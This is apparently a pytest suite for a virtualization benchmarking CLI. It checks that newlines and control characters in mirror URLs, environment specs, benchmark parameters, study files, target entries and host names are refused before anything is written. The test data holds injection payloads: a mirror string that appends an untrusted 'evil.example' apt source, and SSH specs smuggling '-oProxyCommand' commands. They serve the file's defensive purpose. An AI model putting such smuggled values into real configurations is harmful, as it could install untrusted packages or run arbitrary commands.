"""Text that reaches a configuration file or a command line (issue 37): a newline or a
control character in a mirror, a study's name or labels, an environment spec, a benchmark's
parameter, a targets.toml entry, a flag or a fleet host is refused in one line naming it,
exit 2, nothing written; and `--store ''` is refused by every command instead of meaning
the default store."""
from __future__ import annotations

import argparse
from pathlib import Path

import pytest

from storekit import filled_run
from virtbench.interface.cli import commands as cli
from virtbench.interface.cli.parser import build_parser
from virtbench.core.errors import VirtbenchError
from virtbench.core.text import store_flag
from virtbench.measure.environments import EnvSpec
from virtbench.execution.fleet.app import check_host
from virtbench.machinery.image import qemu_fetch, suites
from virtbench.foundations.store import Store
from virtbench.study import targets

STORE_LINE = ("virtbench: --store '': give a store URL (sqlite:///PATH or postgresql://...) "
              "or leave --store out for the default")
EVIL_MIRROR = "http://deb.debian.org/debian\ndeb [trusted=yes] http://evil.example/ bookworm main"


def run_cli(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def store_commands(parser=None, path=()) -> list[tuple[str, ...]]:
    """Every (sub)command that takes --store, as the words that name it."""
    parser = parser or build_parser()
    found = []
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                found += store_commands(sub, (*path, name))
        elif "--store" in action.option_strings:
            found.append(path)
    return found


# -- --store '' ------------------------------------------------------------------------------

def test_every_store_flag_is_checked():
    commands = store_commands()
    assert {"run", "runs", "report", "compare", "history", "serve", "density", "worker",
            "fleet run", "fleet status"} <= {" ".join(c) for c in commands}
    for words in commands:
        sub = build_parser()
        for word in words:
            sub = next(a for a in sub._actions
                       if isinstance(a, argparse._SubParsersAction)).choices[word]
        store = next(a for a in sub._actions if "--store" in a.option_strings)
        assert store.type is store_flag, words


@pytest.mark.parametrize("words", store_commands())
def test_store_empty_is_one_line_exit_2_for_every_command(capsys, store_url, words):
    default = Path(store_url[len("sqlite:///"):])
    code, out, err = run_cli(capsys, *words, "--store", "")
    assert code == 2 and out == ""
    assert err.splitlines() == [f"{STORE_LINE} (see `virtbench {' '.join(words)} --help`)"]
    assert not default.exists()


def test_history_store_empty_does_not_read_the_default_store(capsys, store_url):
    store = Store(store_url)              # the default ($VIRTBENCH_STORE), with a run
    filled_run(store, {"native": {}}, {"native": {"triad": [100, 101, 99]}})
    store.engine.dispose()
    before = Path(store_url[len("sqlite:///"):]).read_bytes()
    for argv in (["history"], ["runs"]):
        assert run_cli(capsys, *argv)[0] == 0                 # the default is readable
        code, out, err = run_cli(capsys, *argv, "--store", "")
        assert (code, out) == (2, "") and err.startswith(STORE_LINE)
    assert Path(store_url[len("sqlite:///"):]).read_bytes() == before


# -- qemu fetch --mirror ---------------------------------------------------------------------

@pytest.fixture
def no_apt(monkeypatch, tmp_path):
    """The cache in tmp_path/cache; apt-get never runs: every sources.list it would have
    read is recorded instead (a fetch that got that far wrote the private configuration)."""
    monkeypatch.setenv("VIRTBENCH_CACHE", str(tmp_path / "cache"))
    written = []

    def fake_run(argv, what, cwd=None, env=None, timeout=0):
        at = next((a.split("=", 1)[1] for a in argv if a.startswith("Dir::Etc::sourcelist=")),
                  None)
        written.append(Path(at).read_text() if at else argv)
        raise VirtbenchError("qemu fetch: apt-get is not run in this test")
    monkeypatch.setattr(qemu_fetch, "_run", fake_run)
    return tmp_path / "cache", written


@pytest.mark.parametrize("mirror, said", [
    (EVIL_MIRROR, "holds a newline"),
    ("http://deb.debian.org/debian\r", "holds a carriage return"),
    ("[trusted=yes] http://evil.example/", "holds a space"),
    ("ftp://deb.debian.org/debian", "has scheme 'ftp', not http, https or file"),
])
def test_qemu_fetch_mirror_is_one_url_and_nothing_is_written(capsys, no_apt, mirror, said):
    cache, written = no_apt
    code, out, err = run_cli(capsys, "qemu", "fetch", "bookworm-backports", "--mirror", mirror)
    assert (code, out) == (2, "")
    assert err.splitlines() == [
        f"virtbench: --mirror {mirror!r} {said}; give one http://, https:// or file:// URL, "
        "e.g. --mirror http://deb.debian.org/debian (see `virtbench qemu fetch --help`)"]
    assert written == [] and not cache.exists()


def test_the_fetcher_itself_refuses_such_a_mirror_before_the_cache_is_made(no_apt):
    cache, written = no_apt
    with pytest.raises(VirtbenchError) as exc:
        qemu_fetch.fetch("bookworm-backports", mirror=EVIL_MIRROR)
    assert str(exc.value).startswith(f"qemu fetch: --mirror {EVIL_MIRROR!r} holds a newline")
    assert written == [] and not cache.exists()
    with pytest.raises(VirtbenchError, match="holds a newline"):
        qemu_fetch.sources("trixie", EVIL_MIRROR, trusted=True)


def test_a_good_mirror_still_reaches_apt(no_apt):
    cache, written = no_apt
    with pytest.raises(VirtbenchError, match="apt-get is not run"):
        qemu_fetch.fetch("trixie", mirror="file:///srv/repo", trusted=True)
    assert written == ["deb [trusted=yes] file:///srv/repo trixie main\n"]
    assert [p.name for p in (cache / "qemu").iterdir()] == []     # the partial fetch is gone


def test_the_guest_images_second_source_is_one_known_suite_and_one_url():
    assert suites.base_changes("bookworm-backports", "http://m/d", ["linux-image-amd64"])[
        "sources"] == ["deb http://m/d bookworm-backports main"]
    with pytest.raises(VirtbenchError, match="unknown Debian suite"):
        suites.base_changes("bookworm-backports main\ndeb http://evil/ sid", "http://m/d", [])
    with pytest.raises(VirtbenchError, match="holds a newline"):
        suites.base_changes("bookworm-backports", EVIL_MIRROR, [])


# -- environment specs, benchmark parameters, flags ------------------------------------------

@pytest.mark.parametrize("spec, said", [
    ("ssh:host=192.0.2.1\n-oProxyCommand=touch /tmp/x", "holds a newline"),
    ("qemu:binary=/usr/bin/qemu\r", "holds a carriage return"),
    ("container:image=debian\x00", "holds a NUL character"),
    ("native:name=a\tb", "holds a tab"),
    ("\nnative", "holds a newline"),
])
def test_an_environment_spec_on_one_line(spec, said):
    with pytest.raises(VirtbenchError) as exc:
        EnvSpec.parse(spec)
    assert str(exc.value) == (f"environment spec {spec!r} {said}; write it on one line "
                              "without control characters, e.g. qemu:disk=ide,nic=e1000")


@pytest.mark.parametrize("argv, line", [
    (["--env", "native\n"], "--env 'native\\n' holds a newline; write it on one line "
                            "without control characters"),
    (["--env", "ssh:host=h\n-oProxyCommand=x"], "--env 'ssh:host=h\\n-oProxyCommand=x' holds "
                                                "a newline"),
    (["--bench", "udp:rate=1G\n-x"], "--bench 'udp:rate=1G\\n-x' holds a newline"),
    (["--bench", "pi", "--baseline", "native\x1b[2J"], "--baseline 'native\\x1b[2J' holds an "
                                                      "escape character"),
    (["--bench", "pi", "--trials", "auto", "--budget", "15m\n"], "--budget '15m\\n' holds a "
                                                                 "newline"),
])
def test_study_flags_on_one_line(capsys, store_url, argv, line):
    code, out, err = run_cli(capsys, "run", "--dry-run", *argv)
    assert (code, out) == (2, "") and len(err.splitlines()) == 1
    assert err.startswith(f"virtbench: {line}")
    assert not Path(store_url[len("sqlite:///"):]).exists()


def test_a_benchmark_parameter_reaching_its_command_line_is_one_line():
    from virtbench.study import schema
    with pytest.raises(VirtbenchError) as exc:
        schema.cli_params("udp", {"rate": "1G\n-x"})
    assert str(exc.value) == "--bench udp: 'rate'='1G\\n-x' holds a newline; write it on one line"


BENCH = '[[benchmark]]\nname = "udp"\n'
STUDY_BASE = '[[environment]]\nspec = "native"\n' + BENCH


@pytest.mark.parametrize("toml, line", [
    ('name = "a\\nb"\n' + STUDY_BASE,
     "name 'a\\nb' holds a newline; write it on one line, e.g. name = \"my-study\""),
    ('[[environment]]\nspec = "native\\n[trusted=yes]"\n',
     "environment[1]: spec 'native\\n[trusted=yes]' holds a newline; write it on one line"),
    (STUDY_BASE + 'label = "udp\\r"\n',
     "benchmark[1]: label 'udp\\r' holds a carriage return; write it on one line"),
    (STUDY_BASE + 'params = { rate = "1G\\n-x" }\n',
     "benchmark[1] (udp): params: 'rate'='1G\\n-x' holds a newline; write it on one line"),
    ('[[environment]]\nspec = "native"\ntarget = "box\\n"\n' + BENCH,
     "environment[1] (native): target 'box\\n' holds a newline; write it on one line"),
    ('description = "two\\nlines are fine\\u001b[31m but not this"\n' + STUDY_BASE,
     "description 'two\\nlines are fine\\x1b[31m but not this' holds an escape character; "
     "write it without control characters"),
])
def test_study_file_text_is_one_line_nothing_stored(capsys, store_url, tmp_path, toml, line):
    path = tmp_path / "s.toml"
    path.write_text(toml)
    code, out, err = run_cli(capsys, "run", str(path), "--dry-run")
    assert (code, out) == (2, "") and len(err.splitlines()) == 1
    assert err.startswith(f"virtbench: study {path}: {line}")
    assert not Path(store_url[len("sqlite:///"):]).exists()


def test_a_study_named_by_its_file_takes_a_file_name_on_one_line(capsys, store_url, tmp_path):
    path = tmp_path / "two\nlines.toml"
    path.write_text(STUDY_BASE)
    code, out, err = run_cli(capsys, "run", str(path), "--dry-run")
    assert (code, out) == (2, "")
    assert err.splitlines() == [
        f"virtbench: study {str(path)!r}: the name it gives, 'two\\nlines', holds a newline; "
        'write a name = "..." line or rename the file']
    assert not Path(store_url[len("sqlite:///"):]).exists()
    path.write_text('name = "fine"\n' + STUDY_BASE)           # a name line: the file's is moot
    code, out, _ = run_cli(capsys, "run", str(path), "--dry-run")
    assert code == 0 and "fine" in out


def test_prose_may_span_lines(capsys, tmp_path):
    path = tmp_path / "s.toml"
    path.write_text('description = """two\nlines"""\n' + STUDY_BASE +
                    'method_note = "a note\\twith a tab"\n')
    code, out, _ = run_cli(capsys, "run", str(path), "--dry-run")
    assert code == 0 and "benchmark udp" in out


# -- targets.toml, fleet hosts ---------------------------------------------------------------

@pytest.mark.parametrize("text, line", [
    ('[x]\nspec = "ssh:host=192.0.2.1\\n-oProxyCommand=y"\n',
     "targets t.toml: [x]: spec 'ssh:host=192.0.2.1\\n-oProxyCommand=y' holds a newline; "
     "write it on one line, e.g. spec = \"ssh:host=192.0.2.10\""),
    ('["x\\ny"]\nspec = "ssh:host=h"\n',
     "targets t.toml: the table name 'x\\ny' holds a newline; name it with letters, digits, "
     "'.', '_' and '-' only"),
])
def test_targets_entries_on_one_line(text, line):
    with pytest.raises(VirtbenchError) as exc:
        targets.parse_targets(text, "t.toml")
    assert str(exc.value) == line


@pytest.mark.parametrize("name", ["box\n", "box\nother", "\nbox", "box\r"])
def test_a_fleet_host_name_on_one_line(name):
    with pytest.raises(VirtbenchError, match="use letters, digits"):
        check_host(name)
    assert check_host("box-1.lab") == "box-1.lab"


def test_a_stored_or_received_study_is_checked_again_where_params_are_taken():
    """A study that did not come through the file or the flags (a resumed run's stored
    study, a fleet unit from the broker) meets the same check where its benchmarks'
    parameters are taken (Benchmark.params)."""
    from virtbench.measure import benchmarks
    from virtbench.study.design import BenchmarkCase, Study, validate
    with pytest.raises(VirtbenchError) as exc:
        validate(Study(name="s", environments=[],
                       benchmarks=[BenchmarkCase("tcp", {"window": "256k\n-x"})]))
    assert str(exc.value) == ("benchmark tcp: parameter 'window'='256k\\n-x' holds a newline; "
                              "write it on one line without control characters")
    with pytest.raises(VirtbenchError, match=r"parameter 'rate\\r'=1 holds a carriage return"):
        benchmarks.get("udp").params({"rate\r": 1})
    assert benchmarks.get("udp").params({"rate": "2G"})["rate"] == "2G"
